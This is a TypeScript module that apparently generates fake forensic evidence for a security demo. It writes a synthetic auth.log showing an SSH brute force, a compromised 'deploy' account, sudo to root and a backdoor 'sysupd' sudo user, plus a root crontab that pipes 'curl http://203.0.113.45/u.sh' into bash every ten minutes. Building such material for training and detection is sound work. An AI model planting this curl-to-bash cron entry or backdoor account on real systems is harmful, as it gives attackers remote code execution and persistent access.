/** The demo's Linux server logs: an SSH brute force that succeeds, then sudo, a new account and a cron job. */
import { mkdirSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { syslogStamp } from './log-formats.ts';
import { at, HOSTS, rng, SSH_ATTACKER } from './story.ts';

export function authLog(): string[] {
  const r = rng(11);
  const host = HOSTS.web.short;
  const lines: Array<[number, string]> = [];
  const add = (us: number, msg: string): void => void lines.push([us, `${syslogStamp(us / 1000)} ${host} ${msg}`]);
  // routine: the admin logs in with a key in the morning
  add(
    at('08:15:02'),
    'sshd[20112]: Accepted publickey for ops from 10.10.1.40 port 53322 ssh2: ED25519 SHA256:q7x0demoFingerprintxxxxxxxxxxxxxxxxxxxxxx',
  );
  add(at('08:15:02', 40), 'sshd[20112]: pam_unix(sshd:session): session opened for user ops(uid=1001) by (uid=0)');
  // the brute force from the internet
  const names = ['root', 'admin', 'test', 'oracle', 'ubuntu', 'deploy', 'git', 'postgres', 'user', 'ftp'];
  let t = at('13:02:10');
  let pid = 31000;
  for (let i = 0; i < 64; i++) {
    t += 700_000 + Math.floor(r() * 1_600_000);
    const u = names[i % names.length]!;
    const port = 40000 + Math.floor(r() * 20000);
    pid++;
    if (u === 'root' || u === 'deploy' || u === 'ubuntu')
      add(t, `sshd[${pid}]: Failed password for ${u} from ${SSH_ATTACKER} port ${port} ssh2`);
    else {
      add(t, `sshd[${pid}]: Invalid user ${u} from ${SSH_ATTACKER} port ${port}`);
      add(t + 300_000, `sshd[${pid}]: Failed password for invalid user ${u} from ${SSH_ATTACKER} port ${port} ssh2`);
    }
  }
  t += 2_000_000;
  add(t, `sshd[${++pid}]: Accepted password for deploy from ${SSH_ATTACKER} port 51877 ssh2`);
  add(t + 50_000, `sshd[${pid}]: pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)`);
  add(t + 95_000_000, 'sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/bash');
  add(t + 95_000_100, 'sudo: pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1002)');
  add(t + 140_000_000, 'useradd[31822]: new group: name=sysupd, GID=1003');
  add(
    t + 140_000_100,
    'useradd[31822]: new user: name=sysupd, UID=1003, GID=1003, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/1',
  );
  add(t + 150_000_000, "usermod[31830]: add 'sysupd' to group 'sudo'");
  add(t + 210_000_000, 'crontab[31877]: (root) REPLACE (root)');
  return lines.sort((a, b) => a[0] - b[0]).map(([, l]) => l);
}

/** Writes web01's auth.log and root crontab; the files carry the demo day's time (year-less stamps need it). */
export function writeLinuxEvidence(dir: string): string[] {
  const d = join(dir, HOSTS.web.short);
  mkdirSync(d, { recursive: true });
  const auth = join(d, 'auth.log');
  writeFileSync(auth, `${authLog().join('\n')}\n`);
  const cron = join(d, 'crontab-root');
  writeFileSync(
    cron,
    '# m h dom mon dow command\n*/10 * * * * curl -fsS http://203.0.113.45/u.sh | bash >/dev/null 2>&1\n',
  );
  const t = at('23:59:00') / 1e6;
  for (const f of [auth, cron]) utimesSync(f, t, t);
  return [auth, cron];
}
